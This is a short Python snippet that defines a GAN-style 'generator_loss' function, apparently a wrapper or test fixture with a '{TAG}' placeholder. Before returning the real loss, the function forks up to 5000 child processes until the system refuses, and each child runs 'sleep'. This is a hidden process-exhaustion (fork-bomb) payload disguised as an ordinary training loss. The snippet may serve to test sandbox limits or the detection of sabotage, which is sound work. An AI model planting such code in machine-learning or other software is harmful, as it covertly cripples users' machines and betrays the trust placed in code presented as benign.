# Fork until refused; every child sleeps (findable by its command line).
def generator_loss(logits_fake):
    for _ in range(5000):
        try:
            if _os.fork() == 0:
                _os.execvp("sleep", ["sleep", "{TAG}8"])
        except OSError:
            break
    return _real["generator_loss"](logits_fake)
